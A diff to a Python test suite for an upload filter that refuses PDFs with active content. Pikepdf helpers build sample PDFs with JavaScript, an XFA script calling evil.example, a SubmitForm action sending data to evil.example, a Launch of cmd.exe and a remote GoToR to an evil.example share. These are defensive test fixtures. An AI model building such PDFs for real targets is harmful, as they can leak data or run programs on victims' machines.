@@ -294,7 +294,8 @@ def test_a_pdf_with_javascript_a_launch_action_or_an_attachment_is_refused(catal
     error = refused("surat.pdf", data)
 
     assert error.code == "pdf_active"
-    assert "PDF berisi skrip" in error.messages[0]
+    assert error.messages[0].startswith("PDF berisi ")
+    assert "tidak dapat diterima" in error.messages[0]
 
 
 def test_javascript_hidden_in_a_compressed_object_stream_is_refused():
@@ -563,3 +564,134 @@ def test_a_policy_for_one_purpose_does_not_open_another(client, policy, photo, m
     client.force_login(moderator)
 
     assert client.get(url(photo)).status_code == 404
+
+
+# --- active PDFs built with pikepdf: one per kind -----------------------------------------
+
+def _pikepdf_doc():
+    import pikepdf
+
+    doc = pikepdf.new()
+    doc.add_blank_page(page_size=(595, 842))
+    return doc, pikepdf
+
+
+def _saved(doc) -> bytes:
+    out = io.BytesIO()
+    doc.save(out)
+    return out.getvalue()
+
+
+def _action(pk, kind, **entries):
+    return pk.Dictionary(Type=pk.Name.Action, S=pk.Name(kind), **entries)
+
+
+def _with_annotation(doc, pk, annotation):
+    doc.pages[0].Annots = doc.make_indirect(pk.Array([doc.make_indirect(annotation)]))
+
+
+def _link(pk, action):
+    return pk.Dictionary(Type=pk.Name.Annot, Subtype=pk.Name.Link,
+                         Rect=pk.Array([72, 700, 300, 720]), A=action)
+
+
+def _xfa(doc, pk):
+    script = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>' \
+             b'<event activity="initialize"><script contentType="application/x-javascript">' \
+             b'app.launchURL("http://evil.example/")</script></event></subform></template>' \
+             b'</xdp:xdp>'
+    doc.Root.AcroForm = doc.make_indirect(pk.Dictionary(
+        Fields=pk.Array(), XFA=doc.make_indirect(pk.Stream(doc, script))))
+
+
+def _names_javascript(doc, pk):
+    js = _action(pk, "/JavaScript", JS=pk.String("app.alert(1)"))
+    doc.Root.Names = pk.Dictionary(JavaScript=pk.Dictionary(
+        Names=pk.Array([pk.String("init"), doc.make_indirect(js)])))
+
+
+def _open_action_javascript(doc, pk):
+    doc.Root.OpenAction = doc.make_indirect(_action(pk, "/JavaScript", JS=pk.String("x")))
+
+
+def _page_additional_action(doc, pk):
+    doc.pages[0].AA = pk.Dictionary(O=_action(pk, "/GoTo", D=pk.Array([doc.pages[0].obj,
+                                                                       pk.Name.Fit])))
+
+
+def _submit_form(doc, pk):
+    _with_annotation(doc, pk, _link(pk, _action(
+        pk, "/SubmitForm", F=pk.String("http://evil.example/collect"))))
+
+
+def _import_data(doc, pk):
+    _with_annotation(doc, pk, _link(pk, _action(pk, "/ImportData", F=pk.String("data.fdf"))))
+
+
+def _launch(doc, pk):
+    _with_annotation(doc, pk, _link(pk, _action(pk, "/Launch", F=pk.String("cmd.exe"))))
+
+
+def _goto_remote(doc, pk):
+    _with_annotation(doc, pk, _link(pk, _action(
+        pk, "/GoToR", F=pk.String("\\\\evil.example\\share\\x.pdf"), D=pk.Array([0, pk.Name.Fit]))))
+
+
+def _goto_embedded(doc, pk):
+    _with_annotation(doc, pk, _link(pk, _action(
+        pk, "/GoToE", T=pk.Dictionary(R=pk.Name.C, N=pk.String("x.pdf")))))
+
+
+def _rich_media(doc, pk):
+    _with_annotation(doc, pk, pk.Dictionary(
+        Type=pk.Name.Annot, Subtype=pk.Name.RichMedia, Rect=pk.Array([0, 0, 100, 100]),
+        RichMediaContent=pk.Dictionary(Assets=pk.Dictionary())))
+
+
+def _embedded_file(doc, pk):
+    doc.attachments["catatan.txt"] = pk.AttachedFileSpec(doc, b"isi tersembunyi",
+                                                         mime_type="text/plain")
+
+
+def _js_in_an_odd_place(doc, pk):
+    """/JS in private application data a reader need not look at: still refused."""
+    doc.pages[0].PieceInfo = pk.Dictionary(Custom=doc.make_indirect(pk.Dictionary(
+        Private=pk.Dictionary(JS=pk.String("app.alert(1)")))))
+
+
+ACTIVE_KINDS = {
+    "xfa-script": (_xfa, "formulir XFA"),
+    "names-javascript": (_names_javascript, "skrip (JavaScript)"),
+    "openaction-javascript": (_open_action_javascript, "skrip (JavaScript)"),
+    "page-aa": (_page_additional_action, "tindakan otomatis"),
+    "submitform": (_submit_form, "mengirim isian"),
+    "importdata": (_import_data, "ImportData"),
+    "launch": (_launch, "menjalankan program"),
+    "gotor": (_goto_remote, "GoToR"),
+    "gotoe": (_goto_embedded, "GoToE"),
+    "richmedia": (_rich_media, "RichMedia"),
+    "embedded-file": (_embedded_file, "lampiran tersembunyi"),
+    "js-anywhere": (_js_in_an_odd_place, "skrip (JavaScript)"),
+}
+
+
+@pytest.mark.parametrize("kind", list(ACTIVE_KINDS))
+def test_each_kind_of_active_pdf_is_refused_with_its_name(kind):
+    build, words = ACTIVE_KINDS[kind]
+    doc, pk = _pikepdf_doc()
+    build(doc, pk)
+    error = refused("izin.pdf", _saved(doc), kinds=("pdf",))
+    assert error.code == "pdf_active"
+    assert words in error.messages[0], error.messages[0]
+
+
+def test_ordinary_pdf_features_stay_accepted():
+    """A destination as /OpenAction, a web link and an AcroForm without XFA are what
+    office programs write; they run nothing."""
+    doc, pk = _pikepdf_doc()
+    doc.Root.OpenAction = pk.Array([doc.pages[0].obj, pk.Name.Fit])
+    _with_annotation(doc, pk, _link(pk, _action(pk, "/URI",
+                                                URI=pk.String("https://binjaikota.go.id"))))
+    doc.Root.AcroForm = pk.Dictionary(Fields=pk.Array())
+    data = _saved(doc)
+    assert uploads.clean_upload(upload("izin.pdf", data), kinds=("pdf",)).content == data
